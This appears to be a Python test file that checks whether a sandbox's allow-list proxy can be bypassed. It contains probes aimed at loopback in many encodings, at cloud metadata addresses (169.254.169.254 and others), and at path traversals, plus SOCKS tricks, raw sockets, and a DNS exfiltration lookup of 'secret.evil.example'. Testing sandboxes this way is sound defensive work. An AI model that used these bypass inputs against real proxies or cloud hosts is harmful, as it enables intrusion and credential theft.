# attack: with a proxy to listed destinations: reaches what is not listed, by other names of it, by
#     redirects, from a fork, and past the proxy
# rows: 118 119 120 121 122 123 124 125 126 127 128 129 130 131
# expect: INERT(400|403|501|socks 1|socks 2) or DENY(ENETUNREACH|EACCES|ENOSYS|ECONNREFUSED)
#     or DENY(EADDRINUSE|gaierror)
# isolation: full light
# settings: --allow-net 127.0.0.2:* --allow-net "GET http://127.0.0.3:*/open/**"
#     --allow-net *.droste.invalid:* --allow-net nothing.example:443
# unconfined: unsafe
PROXY = ("127.0.0.1", 3128)


def proxy(data, end=False):
    """What the proxy says: the status, or `closed`."""
    with socket.create_connection(PROXY, 5) as s:
        s.sendall(data)
        if end:
            s.shutdown(socket.SHUT_WR)
        got = s.recv(4096)
    return got.split()[1].decode() if got.startswith(b"HTTP/1.1 ") else "closed"


def get(host, port, path="/", method="GET"):
    where = ("%s:%d" % (host, port)).encode()
    return proxy(b"%s http://%s%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (
        method.encode(), where, path.encode(), where))


def tunnel(host, port):
    where = ("%s:%d" % (host, port)).encode()
    return proxy(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (where, where))


def socks(kind, address, port):
    with socket.create_connection(PROXY, 5) as s:
        s.sendall(b"\5\1\0")
        if s.recv(2) != b"\5\0":
            return "closed"
        s.sendall(b"\5\1\0" + kind + address + struct.pack(">H", port))
        got = s.recv(10)
    return "success" if got[1:2] == b"\0" else "socks %d" % got[1] if len(got) > 1 else "closed"


def word(call, *args):
    """The proxy's word, or what stopped it: a status of success is one."""
    try:
        result = call(*args)
    except socket.gaierror:
        return "gaierror"
    except OSError as e:
        return errno.errorcode.get(e.errno, type(e).__name__)
    return "success" if result in ("200", None) else result


def send_packet(family, kind, proto, address):
    with socket.socket(family, kind, proto) as s:
        s.sendto(b"x" * 20, address)


def take_the_port(**options):
    with socket.socket() as s:
        for option in options.get("options", ()):
            s.setsockopt(socket.SOL_SOCKET, option, 1)
        s.bind(("0.0.0.0", PROXY[1]))
        s.listen()


def of_a_fork():
    """What a child of the guest's may reach."""
    read_end, write_end = os.pipe()
    if os.fork() == 0:
        os.setsid()
        os.write(write_end, word(tunnel, "127.0.0.1", HOST["tcp"]).encode())
        os._exit(0)
    os.close(write_end)
    output = os.read(read_end, 100).decode()
    os.close(read_end)
    os.wait()
    return output


def attack():
    canary, server = HOST["tcp"], HOST["server_port"]
    packed = socket.inet_aton("127.0.0.1")
    names = {"118 another port of the machine": "127.0.0.1", "119 as a short address": "127.1",
             "119 as a number": "2130706433", "119 in octal": "0177.0.0.1", "119 in hex": "0x7f.1",
             "119 of zeros": "0.0.0.0", "119 with a dot": "127.0.0.1.",
             "119 percent": "127.0.0%2e1",
             "119 full width": "\uff11\uff12\uff17.0.0.1", "120 mapped": "[::ffff:127.0.0.1]",
             "120 compatible": "[::127.0.0.1]", "120 loopback": "[::1]", "120 NAT64":
             "[64:ff9b::7f00:1]", "120 6to4": "[2002:7f00:1::]", "120 zone": "[fe80::1%25lo]",
             "121 by name": "localhost", "121 a name below it": "a.localhost",
             "121 the machine's name": "localhost.localdomain",
             "122 metadata": "169.254.169.254", "122 metadata of Azure": "168.63.129.16",
             "122 metadata over IPv6": "[fd00:ec2::254]", "122 metadata, mapped":
             "[::ffff:a9fe:a9fe]"}
    saw = {}
    for name, host in names.items():
        for request in (get, tunnel):
            saw["%s, %s" % (name, request.__name__)] = word(
                lambda request=request, host=host: request(host.encode().decode("latin-1"), canary))
    saw["118 by SOCKS"] = word(socks, b"\1", packed, canary)
    saw["119 by SOCKS, as a name"] = word(socks, b"\3", b"\x09127.0.0.1", canary)
    saw["119 by SOCKS, odd"] = word(socks, b"\3", b"\x060x7f.1", canary)
    saw["119 by SOCKS, a NUL"] = word(socks, b"\3", b"\x0c127.0.0.2\0.a", canary)
    saw["120 by SOCKS"] = word(socks, b"\4", socket.inet_pton(10, "::ffff:127.0.0.1"), canary)
    saw["123 a redirect"] = word(get, "127.0.0.3", server, "/closed")
    for path in ("/open/../closed", "/open/%2e%2e/closed", "/open/..%2fclosed", "/open//../x", "/",
                 "/open/%252e%252e/x", "/open/..\\x", "/OPEN/x", "//open/x", "/open/./../x"):
        saw["124 path " + path] = word(get, "127.0.0.3", server, path)
    for method in ("POST", "get", "CONNECT", "HEAD", "PUT"):
        saw["125 method " + method] = word(get, "127.0.0.3", server, "/open/x", method)
    saw["125 a tunnel past the path"] = word(tunnel, "127.0.0.3", server)
    saw["125 SOCKS past the path"] = word(socks, b"\1", socket.inet_aton("127.0.0.3"), server)
    saw["126 data in a name"] = word(socket.getaddrinfo, "secret.evil.example", 80)
    saw["126 a resolver beyond"] = word(send_packet, socket.AF_INET, socket.SOCK_DGRAM, 0,
                                        ("192.0.2.1", 53))
    saw["126 through the proxy"] = word(tunnel, "secret.evil.example", 53)
    saw["127 raw"] = word(send_packet, socket.AF_INET, socket.SOCK_RAW, 1, ("192.0.2.1", 0))
    saw["127 packets"] = word(socket.socket, 17, socket.SOCK_RAW)
    saw["127 netlink"] = word(socket.socket, 16, socket.SOCK_RAW)
    saw["127 vsock"] = word(socket.socket, 40, socket.SOCK_STREAM)
    saw["128 past the proxy"] = word(socket.create_connection, ("127.0.0.2", server), 2)
    saw["128 beyond"] = word(socket.create_connection, ("192.0.2.1", 80), 2)
    saw["129 the port"] = word(take_the_port)
    saw["130 a fork"] = of_a_fork()
    saw["131 https in the clear"] = word(
        proxy, b"GET https://127.0.0.2/ HTTP/1.1\r\nHost: 127.0.0.2\r\n\r\n")
    return saw


def twin():
    """What is listed is reached, by each way, and by a child; the answer comes from there."""
    server = HOST["server_port"]
    if HOST["level"] is None:
        with socket.create_connection(("127.0.0.2", server), 5):
            return "success"
    words = [word(get, "127.0.0.2", server), word(tunnel, "127.0.0.2", server),
             word(get, "127.0.0.3", server, "/open/x"),
             word(tunnel, "[::ffff:127.0.0.2]", server),
             word(socks, b"\1", socket.inet_aton("127.0.0.2"), server),
             word(socks, b"\3", b"\x09127.0.0.2", server)]
    return "success" if words == ["success"] * 6 else str(words)
